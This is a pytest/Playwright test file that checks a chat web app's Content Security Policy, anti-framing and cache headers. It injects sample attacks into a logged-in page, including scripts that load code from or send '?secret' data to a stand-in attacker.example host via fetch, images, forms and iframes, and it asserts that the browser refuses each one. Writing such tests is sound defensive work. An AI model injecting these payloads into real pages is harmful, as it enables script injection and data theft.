"""What a browser is told about the page, and that it holds to it: scripts of our own, our own server, nothing else.

That the policy is in nobody's way is shown by all other browser tests: each fails where something was refused.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Response, Route

from tests.browser.chat import Chat
from tests.browser.conftest import log_in
from tests.support.api_client import ApiClient, Json
from tests.support.holding_runner import HoldingRunner

EXPECTED = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}
# Each says what it did to the page; none may have done anything.
ATTACKS = {
    "an inline script": (
        "script-src-elem",
        "const s = document.createElement('script'); s.textContent = 'window.done = true'; document.head.append(s)",
    ),
    "a script from elsewhere": (
        "script-src-elem",
        "const s = document.createElement('script'); s.src = 'https://attacker.example/x.js'; document.head.append(s)",
    ),
    "an event handler in the markup": (
        "script-src-attr",
        "const b = document.createElement('b'); b.setAttribute('onclick', 'window.done = true'); document.body.append(b); b.click()",
    ),
    "text as a script": (
        "script-src",
        "try { setTimeout('window.done = true', 0) } catch {}",
    ),
    "a picture that tells somebody": (
        "img-src",
        "const i = document.createElement('img'); i.src = 'https://attacker.example/?secret'; document.body.append(i)",
    ),
    "a request elsewhere": ("connect-src", "fetch('https://attacker.example/?secret').catch(() => {})"),
    "a form that goes elsewhere": (
        "form-action",
        "const f = document.createElement('form'); f.action = 'https://attacker.example/'; document.body.append(f); f.submit()",
    ),
    "a base for all addresses": (
        "base-uri",
        "const b = document.createElement('base'); b.href = 'https://attacker.example/'; document.head.append(b)",
    ),
    "a page within the page": (
        "frame-src",
        "const f = document.createElement('iframe'); f.src = 'https://attacker.example/'; document.body.append(f)",
    ),
    "a plug-in": (
        "object-src",
        "const o = document.createElement('object'); o.data = 'https://attacker.example/x.swf'; document.body.append(o)",
    ),
}
REFUSALS = """() => { window.refusals = [];
  document.addEventListener('securitypolicyviolation', e => window.refusals.push(e.effectiveDirective)); }"""


@pytest.fixture
def attacked(
    browser: Browser, browser_context_args: dict[str, Any], person: ApiClient, base_url: str
) -> Iterator[Page]:
    """A page of somebody logged in, whose refusals are what the test looks for."""
    context: BrowserContext = browser.new_context(**browser_context_args)
    with closing(context):
        log_in(context, person, base_url)
        page = context.new_page()
        page.goto("/")
        Chat(page).message.wait_for()
        page.evaluate(REFUSALS)
        yield page


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_got_into_the_page_can_neither_run_nor_tell(attacked: Page, attack: str) -> None:
    directive, script = ATTACKS[attack]
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    attacked.route("https://attacker.example/**", note)
    attacked.evaluate(f"() => {{ {script} }}")
    # Not `wait_for_function`: it asks by `eval`, which the policy refuses.
    Chat(attacked).until(lambda: attacked.evaluate("window.refusals.length"), "the refusal")
    assert attacked.evaluate("window.refusals")[0] == directive
    assert attacked.evaluate("window.done") is None
    assert asked == []


def test_another_page_cannot_show_ours_within_itself(
    browser: Browser, browser_context_args: dict[str, Any], base_url: str
) -> None:
    with closing(browser.new_context(**browser_context_args)) as context:
        page = context.new_page()
        page.route(
            "http://elsewhere.example/",
            lambda route: route.fulfill(
                content_type="text/html", body=f'<iframe src="{base_url}/"></iframe>'
            ),
        )
        page.goto("http://elsewhere.example/")
        frame = page.frames[-1]
        page.wait_for_timeout(1000)
        assert "Verbatim" not in frame.content()


def test_every_answer_of_a_visit_says_it(chat: Chat, person: ApiClient, runner: HoldingRunner) -> None:
    answers: list[Response] = []

    # A list's own method cannot be given: Playwright marks what listens.
    def note(answer: Response) -> None:
        answers.append(answer)

    chat.page.on("response", note)
    chat.page.goto("/")
    chat.say_and_read("Hello")
    for path in ("/settings", "/calls", "/none"):
        chat.page.goto(path)
        chat.page.wait_for_load_state("load")
    assert len(answers) > 10
    for answer in answers:
        said = answer.all_headers()
        assert {name: said.get(name) for name in EXPECTED} == EXPECTED, answer.url
        assert "default-src 'self'; script-src 'self';" in said["content-security-policy"], answer.url
    private = [answer for answer in answers if "/api/" in answer.url and "/api/live/" not in answer.url]
    assert private != []
    assert {answer.all_headers()["cache-control"] for answer in private} == {"no-store"}
    scripts: list[Json] = chat.page.evaluate(
        "[...document.querySelectorAll('script, [onclick], [onload], [onerror]')].map(e => ({src: e.src, text: e.textContent}))"
    )
    assert [script for script in scripts if script["text"] or not script["src"]] == []
